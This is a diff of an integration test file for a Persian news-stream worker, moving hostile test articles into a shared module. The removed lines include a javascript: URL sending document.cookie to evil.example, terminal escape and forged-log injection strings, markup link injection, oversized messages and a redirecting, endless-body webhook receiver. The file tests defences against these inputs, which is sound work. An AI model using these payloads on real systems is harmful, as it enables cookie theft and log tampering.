@@ -32,6 +32,16 @@ from kafka.admin import ScramMechanism, UserScramCredentialUpsertion
 from opensearchpy import OpenSearch
 
 from streams.devtools.stack import Stack
+from tests.attacks import (
+    FIGURE,
+    FORGED_LINE,
+    STORIES,
+    Receiver,
+    attack_articles,
+    endless_or_redirect,
+    flat,
+    limit_alert_topics,
+)
 from tests.support import PROJECT, Worker, consume_all, free_port, wait_for
 
 pytestmark = pytest.mark.integration
@@ -301,81 +311,13 @@ def test_secrets_never_leak(secured: Worker, scram_user: ScramUser, tls_proxy: T
 
 
 # == Attacks from article content, replies and records, on the real stack ============================
+# (the hostile articles and the hostile webhook receiver are in tests/attacks.py, shared with the
+# chaos scenario that mixes them into 10,000 normal articles)
 #
 # One worker takes a mix of hostile and normal articles; each test below checks what one attack
 # must no longer do. The mentions and alerts topics have Kafka's default 1 MB message limit (what
 # docker-compose gives), the enrichment budget is 3 s, and the webhook goes to a receiver on
 # 127.0.0.1 that answers with a redirect, then with an endless body.
-
-FIGURE = "person/sergey-lavrov"
-STORIES = [
-    "سرگئی لاوروف وزیر امور خارجه روسیه روز دوشنبه در مسکو با همتای ترکیه‌ای خود دیدار کرد. دو طرف درباره "
-    "تجارت دوجانبه و خطوط انتقال گاز گفت‌وگو کردند و لاوروف گفت روابط اقتصادی دو کشور در حال گسترش است.",
-    "سرگئی لاوروف در نشست شورای امنیت سازمان ملل در نیویورک درباره بحران غذایی جهان سخنرانی کرد. او خواستار "
-    "برداشتن موانع صادرات غلات شد و افزود که کشورهای فقیر بیشترین آسیب را از این بحران دیده‌اند.",
-    "وزیر خارجه روسیه سرگئی لاوروف در سفر به پکن با مقامات چینی درباره همکاری‌های فضایی و ساخت ایستگاه ماه "
-    "رایزنی کرد. این سفر دو روز به طول انجامید و چند سند همکاری علمی میان دو کشور امضا شد.",
-    "سرگئی لاوروف امروز در گفت‌وگو با خبرنگاران در ایروان از برگزاری نمایشگاه کتاب و فرهنگ روسیه در ارمنستان "
-    "خبر داد. به گفته او هزاران عنوان کتاب به زبان‌های مختلف در این نمایشگاه عرضه می‌شود.",
-    "سرگئی لاوروف در دیدار با رئیس‌جمهور کوبا در هاوانا درباره گردشگری و برقراری پروازهای مستقیم میان دو "
-    "کشور گفت‌وگو کرد و گفت گردشگران روس به زودی بیشتر به کوبا سفر خواهند کرد.",
-]
-FORGED_LINE = "[2024-05-01 10:00:00,000] [1] [ERROR] khabar.worker: index deleted"
-HOSTILE_AGENCY = f"IRNA\x1b[2J\x1b]0;owned\x07\n{FORGED_LINE}"
-HOSTILE_TITLE = "پنجره‌ای به آسمان [/] [link=https://evil.example]اینجا[/link] [bold red]"
-SEED_BODY = (Path(__file__).resolve().parents[1] / "data" / "seed-article.txt").read_text(encoding="utf-8")
-
-
-def _flat(n: str, body: str, **fields: object) -> dict[str, object]:
-    return {"id": n, "agency": "IRNA", "title": f"خبر شماره {n}", "body": body,
-            "published_at": "2024-05-01T10:00:00Z", "language": "fa", **fields}
-
-
-class Receiver:
-    """An HTTP receiver on 127.0.0.1 answering POSTs with ``answer(n)`` (n counts from 0)."""
-
-    def __init__(self, answer: Callable[[int, Any], None]) -> None:
-        import threading
-        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-
-        self.requests: list[bytes] = []
-        outer = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_POST(self) -> None:
-                outer.requests.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
-                try:
-                    answer(len(outer.requests) - 1, self)
-                except (BrokenPipeError, ConnectionResetError):
-                    pass  # the client hung up: what a bounded client does
-
-            def log_message(self, *args: object) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
-
-    def close(self) -> None:
-        self.server.shutdown()
-
-
-def _endless_or_redirect(target: str) -> Callable[[int, Any], None]:
-    def answer(n: int, handler: Any) -> None:
-        if n == 0:  # the first alert: sent elsewhere
-            handler.send_response(307)
-            handler.send_header("Location", target)
-            handler.end_headers()
-            return
-        handler.send_response(200)  # then: 400 MiB of reply, unless the client hangs up first
-        handler.send_header("Content-Length", str(400 << 20))
-        handler.end_headers()
-        chunk = b"x" * (1 << 20)
-        for _ in range(400):
-            handler.wfile.write(chunk)
-
-    return answer
-
 
 def _rss_mib(pid: int) -> float:
     for line in Path(f"/proc/{pid}/status").read_text().splitlines():
@@ -424,28 +366,20 @@ def attacked(stack: Stack, worker_factory: Callable[..., Worker], run_id: str,
     import threading
     import time
 
-    from kafka.admin import NewTopic
-
-    from streams.alerts.store import mentions_topic, put_figure
+    from streams.alerts.store import put_figure
     from streams.alerts.watchlist import resolve_figure
     from streams.enrich.gazetteer import load_gazetteer
     from streams.sink.kafka import MAX_MESSAGE_BYTES
 
     elsewhere = Receiver(lambda n, h: (h.send_response(200), h.end_headers()))
-    hook = Receiver(_endless_or_redirect(elsewhere.url))
+    hook = Receiver(endless_or_redirect(elsewhere.url))
     prefix = f"atk{run_id}"
     worker = worker_factory(prefix=prefix, alias=f"{prefix}-articles", KHABAR_ENRICH_TIMEOUT_S="3",
                             KHABAR_ALERT_GROUP_WAIT_S="1", KHABAR_ALERT_WEBHOOK_URL=hook.url,
                             KHABAR_ALERT_WEBHOOK_MAX_ATTEMPTS="1", KHABAR_ALERT_WEBHOOK_TIMEOUT_S="5",
                             KHABAR_BULK_SIZE="50")
     settings = worker.settings
-    admin = KafkaAdminClient(bootstrap_servers=stack.config.kafka_bootstrap)
-    try:  # Kafka's default limit of 1 MB on the alert path's topics
-        admin.create_topics([NewTopic(mentions_topic(settings), settings.partitions, 1,
-                                      topic_configs={"max.message.bytes": "1048588"}),
-                             NewTopic(settings.alerts_topic, 1, 1, topic_configs={"max.message.bytes": "1048588"})])
-    finally:
-        admin.close()
+    limit_alert_topics(stack.config.kafka_bootstrap, settings)  # Kafka's default 1 MB, as docker-compose has
     put_figure(settings, resolve_figure(load_gazetteer(), FIGURE))
     worker.start()
     port = worker.env["KHABAR_WEB_PORT"]
@@ -469,21 +403,7 @@ def attacked(stack: Stack, worker_factory: Callable[..., Worker], run_id: str,
 
     watcher = threading.Thread(target=watch, daemon=True)
     watcher.start()
-    big = [_flat(f"big-{i}", (SEED_BODY + "\n") * 460) for i in range(2)]  # 1.9 MB each
-    huge = _flat("huge-title", STORIES[1], title="سرگئی لاوروف در بیشکک " + "الف" * 185_000)  # 1.1 MB title
-    messages: list[dict[str, object]] = [
-        _flat("story-0", STORIES[0]),
-        *big,
-        huge,
-        _flat("hostile", STORIES[2], agency=HOSTILE_AGENCY, title=HOSTILE_TITLE, kicker="روتیتر [/]"),
-        {**_flat("kicker", "متن خبر درباره بودجه"), "kicker": ["[/]"]},
-        _flat("js-url", STORIES[4], url="javascript:fetch('//evil.example/'+document.cookie)"),
-        {"uri": "urn:atk:1", "copyrightholder": "A" * 1_000_000, "body_text": STORIES[0].replace("لاوروف", "وزیر"),
-         "headlines": [{"value": "خبر"}], "language": "fa"},
-        *(_flat(f"agency-{i}", f"خبر کوتاه شماره {i} درباره بازار کتاب تهران.", agency=f"agency-{i}")
-          for i in range(200)),
-        _flat("story-3", STORIES[3]),
-    ]
+    messages = [flat("story-0", STORIES[0]), *attack_articles(), flat("story-3", STORIES[3])]
     producer = KafkaProducer(bootstrap_servers=stack.config.kafka_bootstrap, acks="all",
                              max_request_size=MAX_MESSAGE_BYTES)
     try:
@@ -686,7 +606,7 @@ def test_a_checkpoint_outside_the_state_directory_is_refused(attacked: Attacked,
     victim = tmp_path / "precious.conf"
     victim.write_text("keep me")
     archive = tmp_path / "a.jsonl"
-    archive.write_bytes(orjson.dumps(_flat("ckpt", STORIES[0])) + b"\n")
+    archive.write_bytes(orjson.dumps(flat("ckpt", STORIES[0])) + b"\n")
     done = _khabar_out(attacked.worker, "backfill", str(archive), "--checkpoint", str(victim), "--restart")
     assert done.returncode == 2 and b"outside" in done.stderr
     assert victim.read_text() == "keep me"
